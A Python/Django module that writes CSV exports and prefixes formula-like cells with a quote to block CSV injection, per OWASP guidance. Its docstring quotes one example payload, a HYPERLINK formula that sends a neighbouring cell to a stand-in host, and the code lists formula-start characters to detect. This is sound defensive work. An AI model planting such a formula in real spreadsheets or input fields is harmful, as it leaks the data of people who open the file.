"""The one CSV writer for every export: cells a spreadsheet would run as formulas are neutralised.

A name, comment or title typed by anyone (self sign-up, an HR file, the public comment form) can start
with `=`, `+`, `-` or `@`; Excel, LibreOffice and Google Sheets then evaluate it
(`=HYPERLINK("http://x?"&B2,"Open")` sends the neighbouring cell away when clicked). Following OWASP's
"CSV Injection" guidance, such a cell is prefixed with a single quote, which spreadsheet programs show
as text. Real numbers (int, float, Decimal, and strings that are nothing but a plain decimal number such
as "-12.5") are kept as they are, so a negative figure still sums.

This module imports nothing from the apps: `belong/` depends on no app.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse

# OWASP: = + - @ tab and carriage return; a line feed too, since some programs drop a leading newline.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
# Full-width forms that some spreadsheet programs fold to their ASCII twins before parsing.
_LOOKALIKES = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
BOM = "\ufeff"


def safe_cell(value) -> str | int | float | Decimal:
    """The value as a cell no spreadsheet program will evaluate."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if _PLAIN_NUMBER.fullmatch(text):
        return text
    # Leading spaces are skipped by some programs before they look for "=".
    head = text.lstrip(" ")[:1]
    if head and (head in FORMULA_STARTS or head in _LOOKALIKES):
        return "'" + text
    return text


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


class _Echo:
    """A file-like object whose write() hands back the line just written, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable, rows: Iterable[Iterable], *, bom: bool = False) -> Iterator[str]:
    """CSV text line by line, every cell (header included) neutralised; for streaming responses."""
    writer = csv.writer(_Echo())
    yield (BOM if bom else "") + writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def _attachment(response, filename: str):
    # Only a plain file name reaches the header: a quote or line break could split it.
    clean = re.sub(r"[^A-Za-z0-9._-]+", "-", filename).strip("-") or "export.csv"
    response["Content-Disposition"] = f'attachment; filename="{clean}"'
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable], *, bom: bool = False) -> HttpResponse:
    """A whole CSV file as a download, for small exports."""
    return _attachment(
        HttpResponse("".join(csv_lines(header, rows, bom=bom)), content_type="text/csv; charset=utf-8"), filename
    )


def csv_streaming_response(
    filename: str, header: Iterable, rows: Iterable[Iterable], *, bom: bool = False
) -> StreamingHttpResponse:
    """A CSV download produced as it is sent, in flat memory, for exports of any size."""
    return csv_lines_streaming_response(filename, csv_lines(header, rows, bom=bom))


def csv_lines_streaming_response(filename: str, lines: Iterable[str]) -> StreamingHttpResponse:
    """Stream lines `csv_lines` wrote: for an export that must do something (an audit row) before its
    first line, and so hands over its lines rather than its rows."""
    return _attachment(StreamingHttpResponse(lines, content_type="text/csv; charset=utf-8"), filename)
